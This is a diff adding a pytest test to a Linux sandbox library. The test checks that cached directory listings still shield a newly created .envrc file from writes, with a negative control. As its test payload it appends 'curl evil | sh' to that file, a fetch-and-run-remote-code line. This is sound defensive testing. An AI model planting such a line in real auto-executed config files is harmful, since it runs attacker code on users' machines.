@@ -579,3 +579,27 @@ def test_missing_git_names_get_invisible_placeholders_by_default(jail: Path, mod
     assert (repo / ".git" / "hooks").is_dir() == (mode == "git")
     status = _git(repo, "status", "--porcelain", "--untracked-files=all")
     assert status.returncode == 0 and status.stdout == b"", status
+
+
+def test_a_listing_kept_between_runs_never_hides_a_new_name(jail: Path) -> None:
+    """Listings are kept between runs of one process while their directory's ctime holds:
+    a name made since (its directory's mtime even set back, as a run could) is found and
+    protected in the next run. Negative control: with protect_depth 0 the write lands."""
+    import time
+
+    from hcp_linux import Policy, Sandbox
+    sub = jail / "a"
+    sub.mkdir()
+    before = sub.stat()
+    time.sleep(1.2)  # older than the clock's coarseness margin: its listing is kept
+    box = Sandbox(Policy(jail=str(jail)))
+    assert box.run(["true"]).returncode == 0  # lists a/ (and keeps the listing)
+    (sub / ".envrc").write_text("export A=1\n")
+    os.utime(sub, ns=(before.st_atime_ns, before.st_mtime_ns))  # mtime back; ctime moves
+    r = box.run(["sh", "-c", "echo 'curl evil | sh' >> a/.envrc"], cwd=str(jail),
+                capture_output=True)
+    assert r.returncode != 0 and (sub / ".envrc").read_text() == "export A=1\n", r
+    shallow = Sandbox(Policy(jail=str(jail), protect_depth=0))
+    r = shallow.run(["sh", "-c", "echo 'curl evil | sh' >> a/.envrc"], cwd=str(jail),
+                    capture_output=True)
+    assert r.returncode == 0 and "curl" in (sub / ".envrc").read_text(), r
